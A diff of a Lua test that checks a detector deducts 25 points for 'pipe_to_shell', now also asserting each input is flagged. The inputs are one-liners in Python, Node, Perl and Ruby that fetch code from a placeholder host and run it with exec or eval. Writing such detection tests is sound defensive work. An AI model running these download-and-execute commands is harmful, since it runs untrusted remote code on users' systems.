@@ -49,7 +49,9 @@ test("curl piped to a shell costs 25, in every dress", function(t)
     "python3 -c \"import urllib.request as u; exec(u.urlopen('http://x').read())\"", "python3 - <<E\nimport requests\nexec(requests.get('http://x').text)\nE",
     "node -e \"require('https').get('https://x',r=>eval(r))\"", "perl -MLWP::Simple -e 'eval get(\"http://x\")'", "ruby -ropen-uri -e 'eval URI.open(\"http://x\").read'",
   } do
-    t.deducted(told(t, text), "pipe_to_shell", 25)
+    local v = told(t, text)
+    t.ok(v.deductions, "not seen: " .. text)
+    t.deducted(v, "pipe_to_shell", 25)
   end
 end)
 
